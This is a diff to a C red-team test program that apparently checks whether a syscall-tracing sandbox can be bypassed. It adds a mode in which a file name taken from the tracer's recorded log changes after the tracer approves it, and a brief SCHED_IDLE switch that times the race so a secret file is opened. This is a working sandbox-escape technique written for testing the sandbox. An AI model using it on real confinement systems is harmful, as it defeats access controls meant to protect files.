@@ -21,15 +21,28 @@
  * (the same first bytes at the same place), proving the kernel reads the longer name through
  * the mapping and opens the secret.
  *
+ * RECORDED=1 (red team 56): LOG is not the tracer's log but a recorder's copy of it -- the
+ * log goes to a terminal (`systrace -e`) that `script -f LOG` records: each record the tracer
+ * writes while deciding lands in LOG a few microseconds later (the recorder's read of the
+ * master and its write).  LOG's size is read once it stops growing (the copy is
+ * asynchronous: log_tail.h's settles), and the open is made as SCHED_IDLE (any user may ask
+ * it for itself, and go back): resumed after its decision, the program runs only once the
+ * recorder (and the kworker that moves a pty's bytes to its master) have nothing left to do,
+ * so the copy comes first.
+ *
  * ESCAPED: an open gave the secret; BLOCKED: never.
  */
 #include "attack.h"
+
+#include <sched.h>
+
 #include "log_tail.h"
 
 #define TAIL 3    /* bytes of the log's text the name takes */
 #define ROOM 12   /* the most of the next record's first bytes the window takes */
 
 int main(int argc, char **argv) {
+    settles = getenv("RECORDED") != NULL;
     struct log_tail t = log_tail_start(argc, argv);
     const char *secret = argv[2];
     int tries = atoi(argv[3]);
@@ -81,8 +94,13 @@ int main(int argc, char **argv) {
             blocked("mmap of the log: %s", ename(errno));
         if (native && write(logw, start, strlen(start)) != (ssize_t)strlen(start))
             blocked("write of the log: %s", ename(errno));
+        struct sched_param param = {0};
+        if (settles)
+            sched_setscheduler(0, SCHED_IDLE, &param);  /* (the recorder's copy first) */
         int got = open(area + used - TAIL, O_RDONLY | O_CLOEXEC);
         int err = errno;
+        if (settles)
+            sched_setscheduler(0, SCHED_OTHER, &param);
         if (got >= 0) {
             char buf[256] = {0};
             ssize_t r = read(got, buf, sizeof buf - 1);
